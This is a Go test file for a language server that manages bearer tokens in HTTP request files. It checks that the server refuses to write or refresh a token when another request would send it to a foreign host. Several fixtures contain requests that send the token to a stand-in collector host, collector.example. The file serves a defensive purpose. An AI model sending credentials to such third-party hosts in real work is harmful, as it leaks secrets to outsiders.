package server_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/doxls/doxls/auth/uaatest"
)

// taintedFile has a DOX request and a request to somebody else's server
// that both send {{doxToken}}: with the environment selected, the client
// sends whatever the environment file holds to both.
func taintedFile(api string) string {
	return "GET " + api + "/capabilities\nAuthorization: Bearer {{doxToken}}\n\n###\nPOST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"
}

// In envFile mode insertBearer never writes the token into the
// environment file that a foreign request reads it from (issue 12): it
// reports why and leaves the file as it was.
func TestEnvFileInsertRefusesATaintedVariable(t *testing.T) {
	e := newEnv(t, uaatest.Options{})
	c := e.session(map[string]any{"insertMode": "envFile"})
	src := taintedFile(e.apiURL())
	u := c.open(filepath.Join(e.dir, "dox.http"), src)
	var res struct {
		Edited  int
		Skipped []struct {
			Line   int
			Reason string
		}
		EnvFile *struct{ Path string }
	}
	if err := c.command("doxls.insertBearer", map[string]any{"uri": u}, &res); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "http-client.private.env.json")); !os.IsNotExist(err) {
		t.Errorf("the environment file was written: %v", err)
	}
	if res.EnvFile != nil || res.Edited != 0 || c.text(u) != src {
		t.Errorf("insertBearer: %+v, document %q", res, c.text(u))
	}
	reasons := []string{}
	for _, s := range res.Skipped {
		reasons = append(reasons, s.Reason)
	}
	want := "token variable {{doxToken}} is also sent to collector.example"
	if len(reasons) != 2 || reasons[0] != want || reasons[1] != "foreign host collector.example" {
		t.Errorf("skipped %q, want %q and the foreign host", reasons, want)
	}
}

// A refresh leaves an environment file alone when a foreign request of an
// open file reads its variable: the old token there may have been put by
// hand, a fresh one is not added to what the foreign server gets.
func TestEnvFileRefreshRefusesATaintedVariable(t *testing.T) {
	e := newEnv(t, uaatest.Options{})
	env := "{\n  \"dev\": {\n    \"doxToken\": \"old.token.value\"\n  }\n}\n"
	envPath := e.write("http-client.private.env.json", env)
	c := e.session(map[string]any{"insertMode": "envFile"})
	c.open(filepath.Join(e.dir, "dox.http"), taintedFile(e.apiURL()))
	var ref struct{ Edited, Documents int }
	if err := c.command("doxls.refreshBearers", map[string]any{"forceRefresh": true}, &ref); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(envPath); string(b) != env {
		t.Errorf("the refresh rewrote the environment file (%d bytes, was %d)", len(b), len(env))
	}
	if ref.Edited != 0 {
		t.Errorf("refresh result %+v, want no edit", ref)
	}
	// Without the foreign request the same refresh does write it.
	clean := strings.SplitN(taintedFile(e.apiURL()), "###", 2)[0]
	cu := c.open(filepath.Join(e.dir, "clean.http"), clean)
	if err := c.command("doxls.refreshBearers", map[string]any{"uris": []string{string(cu)}, "forceRefresh": true}, &ref); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(envPath); string(b) == env {
		t.Error("a clean request file's refresh did not write the environment file")
	}
}

// The same for a request file on disk that is not open: it reads the
// environment file as well, and a refresh leaves the file alone.
func TestEnvFileRefreshRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
	e := newEnv(t, uaatest.Options{})
	env := "{\n  \"dev\": {\n    \"doxToken\": \"old.token.value\"\n  }\n}\n"
	envPath := e.write("http-client.private.env.json", env)
	e.write("tools/collect.http", "POST https://collector.example/t\n\n{\"t\": \"{{doxToken}}\"}\n")
	c := e.session(map[string]any{"insertMode": "envFile"})
	c.open(filepath.Join(e.dir, "dox.http"), strings.SplitN(taintedFile(e.apiURL()), "###", 2)[0])
	var ref struct{ Edited, Documents int }
	if err := c.command("doxls.refreshBearers", map[string]any{"forceRefresh": true}, &ref); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(envPath); string(b) != env || ref.Edited != 0 {
		t.Errorf("the refresh rewrote the environment file (%d bytes, was %d; result %+v)", len(b), len(env), ref)
	}
}

// A new request file in envFile mode: the request files already beside it
// read the same environment file, so none of them may send the variable
// elsewhere.
func TestEnvFileNewRequestFileRefusesATaintedFolder(t *testing.T) {
	e := newEnv(t, uaatest.Options{})
	e.write("collect.http", "POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n")
	c := e.session(map[string]any{"insertMode": "envFile"})
	err := c.command("doxls.newRequestFile", nil, nil)
	if err == nil || !strings.Contains(err.Error(), "token variable {{doxToken}} is also sent to collector.example by collect.http") {
		t.Errorf("doxls.newRequestFile: %v", err)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "http-client.private.env.json")); !os.IsNotExist(err) {
		t.Errorf("the environment file was written (%v)", err)
	}
}
